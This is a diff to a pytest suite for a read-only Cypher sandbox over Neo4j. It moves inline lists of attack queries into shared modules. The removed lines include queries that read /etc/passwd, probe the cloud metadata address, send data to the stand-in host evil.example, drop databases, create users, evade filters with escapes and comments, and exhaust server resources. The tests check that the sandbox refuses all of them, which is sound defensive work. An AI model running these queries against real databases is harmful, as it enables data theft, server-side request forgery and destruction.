@@ -14,6 +14,8 @@ from typing import Any
 import pytest
 from neo4j import Driver, GraphDatabase
 
+from tests.attacks import FILES_AND_NETWORK, REFUSED, REFUSED_ON_A_SERVER, WRITES
+from tests.bombs import ON_A_SERVER
 from tests.contract.test_cypher_sandbox import READS as PLAIN_READS
 from tests.docs.pages import ROOT
 from tests.neo4j_fixtures import neo4j_needed, selected_releases
@@ -205,89 +207,14 @@ def test_parameters_must_be_json_of_a_bounded_size(registry: Registry) -> None:
 
 # --- attacks ---
 
-WRITES = [
-    "CREATE (:Agent {id: 'evil'})",
-    "MATCH (a:Agent) SET a.name = 'evil'",
-    "MATCH (a:Agent) DETACH DELETE a",
-    "MATCH (a:Agent) REMOVE a:Agent",
-    "MERGE (a:Agent {id: 'evil'}) ON CREATE SET a.x = 1",
-    "MATCH (a:Agent) FOREACH (x IN [1] | SET a.x = x)",
-    "CALL { CREATE (n:Evil) RETURN n } RETURN n",
-    "MATCH (a:Agent) CALL (a) { SET a.x = 1 } RETURN a",
-    "MATCH (a:Agent) CALL { WITH a DETACH DELETE a } IN TRANSACTIONS OF 10 ROWS",
-    "MATCH (a:Agent) CALL (a) { DETACH DELETE a } IN 3 CONCURRENT TRANSACTIONS",
-    "RETURN COLLECT { CREATE (n:Evil) RETURN n }",
-    "MATCH (a)((x)-[:OWNS]->(y))+ SET a.x = 1",
-    "CYPHER 25 WHEN true THEN { CREATE (:Evil) }",
-    "MATCH (n) LET x = 1 INSERT (:Evil)",
-    "USE neo4j CREATE (:Evil)",
-    "PROFILE CREATE (:Evil)",
-    "EXPLAIN CREATE (:Evil)",
-    r"\u0043REATE (:Evil)",
-    "MATCH (n) /* /* */ SET n.x = 1 // */ RETURN n",
-    "MATCH (n {id: '\\u0027}) DETACH DELETE n //'}) RETURN n",
-    "MATCH (n:$(CASE WHEN true THEN 'Agent' END)) DELETE n",
-    "CREATE INDEX evil FOR (n:Agent) ON (n.name)",
-    "DROP INDEX agent_text",
-    "DROP CONSTRAINT agent_id",
-    "CALL db.createLabel('Evil')",
-    "CALL db.create.setNodeVectorProperty(null, 'embedding', [1.0])",
-    "CALL apoc.cypher.runWrite('CREATE (:Evil)', {})",
-    "CALL apoc.periodic.iterate('MATCH (n) RETURN n', 'DETACH DELETE n', {})",
-    "RETURN apoc.cypher.runFirstColumnSingle('CREATE (n) RETURN n', {})",
-    "CREATE USER evil SET PASSWORD 'evil-evil'",
-    "ALTER CURRENT USER SET PASSWORD FROM 'x' TO 'evil-evil'",
-    "DROP DATABASE neo4j",
-    "STOP DATABASE neo4j",
-    "MATCH (n) RETURN n; MATCH (n) DETACH DELETE n",
-]
 
-REACHES_OUT = [
-    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
-    "load/**/csv FROM 'file:///etc/passwd' AS line RETURN line",
-    "LOAD CSV WITH HEADERS FROM 'http://169.254.169.254/latest/meta-data' AS line RETURN line",
-    "CALL { LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line } RETURN line",
-    "RETURN 1 AS line UNION LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
-    "MATCH (a:Agent) WITH collect(a.transport) AS all LOAD CSV FROM 'http://evil.example/?' + all[0] AS x RETURN x",
-    "CALL apoc.load.json('http://evil.example') YIELD value RETURN value",
-    "RETURN apoc.load.json('http://evil.example')",
-    "RETURN `apoc`.`load`.`json`('http://evil.example')",
-    "RETURN `apoc.load.json`('http://evil.example')",
-    "RETURN apoc /* . */ . load . json ('http://evil.example')",
-    "RETURN `\\u0061poc`.load.json('http://evil.example')",
-    "MATCH (a:Agent) WHERE genai.vector.encode(a.transport, 'OpenAI', {token: 'x'}) IS NOT NULL RETURN a",
-    "RETURN ai.text.embed('x', 'OpenAI', {})",
-    "CALL genai.vector.encodeBatch(['x'], 'OpenAI', {}) YIELD vector RETURN vector",
-    "CALL apoc.export.csv.all('/tmp/evil.csv', {})",
-    "RETURN graph.byName('system')",
-    "RETURN abac.oidc.user_attribute('sub')",
-]
-
-SPIES = [
-    "CALL dbms.listConfig() YIELD name, value RETURN name, value",
-    "CALL dbms.listConnections()",
-    "CALL dbms.components()",
-    "CALL dbms.queryJmx('*:*')",
-    "CALL db.info()",
-    "CALL db.clearQueryCaches()",
-    "CALL db.awaitIndexes(300)",
-    "CALL tx.setMetaData({waygraph: 'no'})",
-    "CALL `db.labels`()",
-    "SHOW TRANSACTIONS",
-    "SHOW USERS",
-    "SHOW SETTINGS",
-    "TERMINATE TRANSACTION 'neo4j-transaction-1'",
-    "USE system SHOW USERS",
-]
-
-
-@pytest.mark.parametrize("attack", [*WRITES, *REACHES_OUT, *SPIES])
 def test_what_is_more_than_a_read_is_refused_before_the_server_sees_it(
-    attack: str, registry: Registry, monkeypatch: pytest.MonkeyPatch
+    registry: Registry, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     """Whatever writes, reads files, asks the network or looks at the server is refused, and no worker is started."""
     monkeypatch.setattr(server_cypher, "start_worker", lambda *_: pytest.fail("a worker was started"))
-    assert isinstance(error_of(registry, attack), CypherRefused)
+    for attack in (*REFUSED.values(), *REFUSED_ON_A_SERVER.values()):
+        assert isinstance(error_of(registry, attack), CypherRefused)
 
 
 def fooled(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -330,7 +257,7 @@ def test_the_third_line_is_the_servers(attack: str, server: Neo4jServer, registr
 
 MUTATED = [
     *WRITES,
-    *REACHES_OUT,
+    *FILES_AND_NETWORK,
     *(statement for statement, _ in PLAIN_READS * 2),
     "MATCH (a:Agent|Tool&!X) WHERE a.id =~ 'x.*' RETURN a ORDER BY a.id SKIP 1 LIMIT 2",
     "MATCH (a)((x)-[r:OWNS WHERE r.x > 1]->(y)){1,2}(b) RETURN [i IN x | i.id]",
@@ -376,27 +303,12 @@ def test_nothing_that_passes_has_a_plan_that_does_more(server: Neo4jServer, regi
     assert planned > 120
 
 
-ENDLESS = {
-    "rows": "UNWIND range(1, 1000000000000) AS x RETURN count(x)",
-    "a product": "MATCH (a), (b), (c), (d), (e) WHERE a.id < b.id + c.id + d.id + e.id RETURN count(*)",
-    "a plan": "MATCH " + "-->".join(f"(a{number})" for number in range(400)) + " RETURN 1",
-    "brackets": "RETURN " + "(" * 9_000 + "1" + ")" * 9_000,
-}
-
-TOO_LARGE = {
-    "a list of rows": "UNWIND range(1, 1000000000) AS x RETURN collect([x, 'text'])",
-    "a text": "RETURN size(reduce(s = 'x', i IN range(1, 40) | s + s))",
-    "one row": "WITH 20000000 AS n RETURN range(1, n)",
-    "many rows": "MATCH (a), (b) RETURN collect([a, b]) AS x, collect([b, a]) AS y, [i IN range(1, 999999) | a.id]",
-}
-
-
-@pytest.mark.parametrize("name", [*ENDLESS, *TOO_LARGE])
+@pytest.mark.parametrize("bomb", ON_A_SERVER.values(), ids=ON_A_SERVER)
 @pytest.mark.usefixtures("untouched")
-def test_what_has_no_end_is_ended(name: str, hurried: Registry, registry: Registry) -> None:
+def test_what_has_no_end_is_ended(bomb: str, hurried: Registry, registry: Registry) -> None:
     """In time the asker gets one line that says why; no worker is left, and the server answers as before."""
     started = time.monotonic()
-    error = error_of(hurried, (ENDLESS | TOO_LARGE)[name])
+    error = error_of(hurried, bomb)
     assert time.monotonic() - started < HURRIED.cypher_timeout_s + 4
     assert isinstance(error, CypherLimit | CypherFailed)
     assert workers() == []
